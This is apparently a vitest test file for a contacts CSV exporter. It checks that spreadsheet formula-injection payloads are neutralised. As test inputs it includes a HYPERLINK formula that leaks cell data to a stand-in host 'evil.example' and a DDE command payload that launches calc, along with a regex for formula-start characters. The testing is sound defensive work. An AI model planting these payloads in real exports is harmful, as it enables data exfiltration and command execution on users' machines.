import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CONTACT_CSV_COLUMNS, exportContactsCsv, neutraliseCell } from '../../utils/data/contacts-csv-export';
import { contact, T0 } from './helpers';

const labels: Record<string, string> = { sql: 'SQL', tiktok: 'TikTok', 'custom:judo': 'Stakeholder-Judo' };
const labelOf = (id: string) => labels[id] ?? id;

function rows(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
}

describe('exportContactsCsv', () => {
  it('writes a BOM, the header and one row per contact with labels, dates and empty cells for nulls', () => {
    const csv = exportContactsCsv(
      [
        contact({
          key: 'linkedin:jurgen',
          name: 'Jürgen Größ',
          headline: 'Leiter Qualität, Werk Süd',
          currentRole: 'Leiter',
          currentCompany: 'Öl & Gas AG',
          location: 'München',
          teachSkills: ['sql', 'custom:judo'],
          learnSkills: ['tiktok'],
          status: 'mentoring',
          direction: 'they-mentor-me',
          followUpAt: Date.UTC(2025, 1, 3, 23, 30),
          updatedAt: T0 + 1000,
        }),
        contact({ key: 'linkedin:empty', name: 'Empty Fields' }),
      ],
      labelOf,
      { timeZone: 'UTC' },
    );
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${CONTACT_CSV_COLUMNS.join(',')}`);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(rows(csv)).toEqual([
      [...CONTACT_CSV_COLUMNS],
      [
        'Jürgen Größ',
        'Leiter Qualität, Werk Süd',
        'Leiter',
        'Öl & Gas AG',
        'München',
        'https://www.linkedin.com/in/jurgen/',
        'mentoring',
        'they-mentor-me',
        'SQL; Stakeholder-Judo',
        'TikTok',
        '2025-02-03',
        '2025-01-15T09:30:00.000Z',
        '2025-01-15T09:30:01.000Z',
      ],
      ['Empty Fields', '', '', '', '', 'https://www.linkedin.com/in/empty/', 'idea', '', '', '', '', '2025-01-15T09:30:00.000Z', '2025-01-15T09:30:00.000Z'],
    ]);
  });

  it('the follow-up date is the calendar day in the given time zone', () => {
    const followUpAt = Date.UTC(2025, 1, 3, 23, 30);
    const dayIn = (timeZone: string) => rows(exportContactsCsv([contact({ key: 'linkedin:a', followUpAt })], labelOf, { timeZone }))[1]![10];
    expect(dayIn('UTC')).toBe('2025-02-03');
    expect(dayIn('Europe/Berlin')).toBe('2025-02-04');
  });

  it('neutralises formula injection in every text cell (OWASP: = + - @ tab CR)', () => {
    const csv = exportContactsCsv(
      [
        contact({
          key: 'linkedin:evil',
          name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
          headline: '+49 30 1234',
          currentRole: '-2+3',
          currentCompany: '@SUM(1+1)',
          location: '\t=1+1',
          teachSkills: ['sql'],
          learnSkills: ['x'],
        }),
      ],
      (id) => (id === 'x' ? '\r=cmd|"/C calc"!A0' : labelOf(id)),
      { timeZone: 'UTC' },
    );
    const [, cells] = rows(csv);
    expect(cells!.slice(0, 5)).toEqual([
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`,
      "'+49 30 1234",
      "'-2+3",
      "'@SUM(1+1)",
      "'\t'=1+1",
    ]);
    expect(cells![9]).toBe(`'\r'=cmd|"/C calc"!A0`);
    // No cell of the row may start with a formula character any more.
    for (const cell of cells!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('neutralises a formula cell that contains a line break (Papa’s escapeFormulae pattern misses it)', () => {
    expect(neutraliseCell('=1+1\nsecond line')).toBe("'=1+1\nsecond line");
    expect(Papa.unparse([['=1+1\nx']], { escapeFormulae: true })).not.toContain("'=");
  });

  it('leaves harmless text alone, including formula characters later in the text', () => {
    for (const value of ['Anna', 'a=b', 'C++ dev', 'x@example.invalid', '', 'Senior Dev - Berlin', "'=already text"]) {
      expect(neutraliseCell(value)).toBe(value);
    }
  });

  it('writes only the header for no contacts', () => {
    expect(exportContactsCsv([], labelOf)).toBe(`\uFEFF${CONTACT_CSV_COLUMNS.join(',')}\r\n`);
  });

  // Issue 13 item 4: a German spreadsheet splits on `;`, others on tab: every piece must stay text.
  const DANGEROUS = /^[=+\-@\t\r]/;
  const pieceStarts = (value: string) => value.split(/[,;\t\r\n]/).map((piece) => piece.replace(/^[ "]+/, ''));

  it('no piece of a cell can start a formula, whichever separator a spreadsheet splits on', () => {
    const hostile = contact({
      key: 'linkedin:evil',
      name: 'Ada;=1+2',
      headline: 'Dev;=1+2',
      currentRole: 'Lead,+SUM(A1)',
      currentCompany: 'ACME;=HYPERLINK("https://evil.example","x")',
      location: 'Berlin\t@cmd; "=2+2"',
      teachSkills: ['sql'],
      learnSkills: ['x'],
    });
    const csv = exportContactsCsv([hostile], (id) => (id === 'x' ? '-1+1' : labelOf(id)), { timeZone: 'UTC' });
    expect(csv).not.toContain(';=');
    for (const delimiter of [',', ';', '\t']) {
      const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true });
      for (const row of parsed.data) {
        for (const cell of row) expect(cell.replace(/^[ "]+/, ''), `split on ${JSON.stringify(delimiter)}`).not.toMatch(DANGEROUS);
      }
    }
  });

  it('property: after neutralising, no separator-delimited piece of any text starts a formula', () => {
    const alphabet = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', ';', ' ', '"', "'", 'a', '1', '(');
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 30 }).map((chars) => chars.join('')), (text) => {
        for (const piece of pieceStarts(neutraliseCell(text))) expect(piece).not.toMatch(DANGEROUS);
      }),
    );
  });

  it('one damaged record does not stop the export of the others', () => {
    const broken = contact({ key: 'linkedin:broken', createdAt: Number.MAX_SAFE_INTEGER, updatedAt: Number.NaN, followUpAt: 9e18 });
    const csv = exportContactsCsv([broken, contact({ key: 'linkedin:fine', name: 'Fine' })], labelOf, { timeZone: 'UTC' });
    const table = rows(csv);
    expect(table).toHaveLength(3);
    expect(table[1]!.slice(10)).toEqual(['', '', '']);
    expect(table[2]![0]).toBe('Fine');
  });
});
